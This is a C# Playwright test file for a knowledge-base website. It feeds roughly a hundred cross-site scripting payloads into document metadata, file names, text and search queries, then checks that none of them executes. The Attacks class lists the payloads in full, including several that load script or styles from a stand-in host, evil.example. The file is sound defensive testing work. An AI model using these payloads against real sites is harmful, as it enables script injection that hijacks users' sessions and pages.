using System.Text;
using System.Text.Json;
using KnowledgeBase.Site.Tests.Support;

namespace KnowledgeBase.Site.Tests.BrowserTests;

/// <summary>A hundred strings that try to run a script, in names, metadata, text and queries: none runs.</summary>
[Collection(Browser.Name)]
public class HostileStrings(Browser browser)
{
    [BrowserFact]
    public async Task None_of_a_hundred_strings_runs()
    {
        var strings = Attacks.All;
        Assert.True(strings.Count >= 100);
        await using var window = await browser.OpenAsync();
        var page = window.Page;
        var dialogs = 0;
        page.Dialog += async (_, dialog) =>
        {
            dialogs++;
            await dialog.DismissAsync();
        };

        // Ten documents, each with ten of the strings in every place that takes text.
        var ids = new List<string>();
        foreach (var (number, ten) in strings.Chunk(10).Index())
        {
            var metadata = JsonSerializer.Serialize(new
            {
                title = ten[0] + ten[1],
                authors = new[] { ten[2], ten[3] },
                summary = ten[4] + "\n" + ten[5],
                places = new[] { ten[6] + " place" },
                period = "",
                lead_body = ten[7],
                rights = ten[8],
                identifier = ten[9],
            });
            var text = $"hostile {number} " + string.Join(" hostile ", ten);
            ids.Add(await browser.Archive.Site.AddAsync(
                ArchiveFile.Pdf(string.Concat(ten[0].Where(c => c is not ('/' or '\\' or '"' or '\r' or '\n') && c >= ' ')) + ".pdf", text, text), metadata, ten[1].Trim().Length > 90 ? "c" : ten[1]));
        }

        await window.SignInAsync();
        foreach (var id in ids)
        {
            await page.GotoAsync($"/documents/{id}?q=hostile");
            await AssertQuietAsync(page);
            await page.GotoAsync($"/documents/{id}/edit");
            await AssertQuietAsync(page);
        }
        foreach (var address in new[] { "/", "/search?q=hostile", "/search?q=&order=added", "/search?q=&order=added&page=2", "/upload" })
        {
            await page.GotoAsync(address);
            await AssertQuietAsync(page);
        }
        foreach (var attack in strings)
        {
            await page.GotoAsync("/search?q=" + Uri.EscapeDataString(attack) + "&place=" + Uri.EscapeDataString(attack), new() { WaitUntil = Microsoft.Playwright.WaitUntilState.DOMContentLoaded });
            await AssertQuietAsync(page);
        }
        Assert.Equal(0, dialogs);
    }

    // Each of the strings would set this mark on the window, or put an element of its own into the page.
    private static async Task AssertQuietAsync(Microsoft.Playwright.IPage page)
    {
        var found = await page.EvaluateAsync<string>("""
            () => [window.hacked ? 'ran' : '', ...[...document.querySelectorAll('script:not([src^="/assets/"]):not([type="application/ld+json"]), iframe, object, embed, base, svg *[onload], [onerror], [onclick], [onload], [onfocus], [onmouseover], style, a[href^="javascript:" i], form[action^="javascript:" i], meta[http-equiv]')].map(e => e.outerHTML)].filter(t => t).join('\n')
            """);
        Assert.Equal("", found);
    }
}

/// <summary>Ways to run a script where text was expected.</summary>
internal static class Attacks
{
    private const string Run = "window.hacked=1";

    private static readonly string[] Whole =
    [
        $"<script>{Run}</script>", $"<ScRiPt>{Run}</sCrIpT>", $"<script >{Run}</script >", $"<script\n>{Run}</script\n>", $"<script/x>{Run}</script>", $"<<script>{Run}//<</script>",
        $"<scr<script>ipt>{Run}</scr</script>ipt>", $"</script><script>{Run}</script>", $"</title><script>{Run}</script>", $"</textarea><script>{Run}</script>", $"</style><script>{Run}</script>",
        $"</pre><script>{Run}</script>", $"</mark><script>{Run}</script>", $"--><script>{Run}</script>", $"]]><script>{Run}</script>", $"\"><script>{Run}</script>", $"'><script>{Run}</script>",
        $"\"/><script>{Run}</script>", $"</option></select><script>{Run}</script>", $"\u2028<script>{Run}</script>", $"%3Cscript%3E{Run}%3C/script%3E", $"&lt;script&gt;{Run}&lt;/script&gt;",
        $"&#60;script&#62;{Run}&#60;/script&#62;", $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e", $"\\x3cscript\\x3e{Run}", $"+ADw-script+AD4-{Run}+ADw-/script+AD4-", $"＜script＞{Run}＜/script＞",
        "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,window.hacked=1></script>", "<iframe src=javascript:window.hacked=1>", $"<iframe srcdoc=\"<script>parent.hacked=1</script>\">",
        "<object data=javascript:window.hacked=1>", "<embed src=javascript:window.hacked=1>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:window.hacked=1\">",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<form action=javascript:window.hacked=1><button>go</button></form>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>", "<template><script>window.hacked=1</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">", "<a href=javascript:window.hacked=1>click</a>", "<a href=\" javascript:window.hacked=1\">click</a>",
        "<a href=\"java\tscript:window.hacked=1\">click</a>", "javascript:window.hacked=1", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hacked=1//'>",
        "{{constructor.constructor('window.hacked=1')()}}", "${window.hacked=1}", "#{window.hacked=1}", "<%= window.hacked=1 %>", "@(window.hacked=1)", "@{ window.hacked=1; }",
        "'-(window.hacked=1)-'", "\";window.hacked=1;//", "';window.hacked=1;//", "\\\";window.hacked=1;//", "`${window.hacked=1}`",
        "\" onfocus=window.hacked=1 autofocus x=\"", "' onfocus=window.hacked=1 autofocus x='", "\" onmouseover=\"window.hacked=1", "\" style=\"animation-name:x\" onanimationstart=\"window.hacked=1",
        "\"><img src=x onerror=window.hacked=1>", "'><img src=x onerror=window.hacked=1>", "</mark>\"><svg onload=window.hacked=1>", "\0<script>window.hacked=1</script>".Replace("\0", "\u0001", StringComparison.Ordinal),
        "{\"@context\":\"x\",\"name\":\"</script><script>window.hacked=1</script>\"}", "<!--<script>window.hacked=1//-->", "<![CDATA[<script>window.hacked=1</script>]]>", "<?xml version=\"1.0\"?><script>window.hacked=1</script>",
    ];

    private static readonly string[] Elements = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "select autofocus", "svg><animate", "isindex", "table background=x"];

    private static readonly string[] Handlers = ["onerror", "onload", "onfocus", "ontoggle"];

    public static IReadOnlyList<string> All { get; } =
        [.. Whole, .. Elements.SelectMany(e => Handlers, (e, h) => $"<{e} {h}={Run}>").Take(110 - Whole.Length)];
}
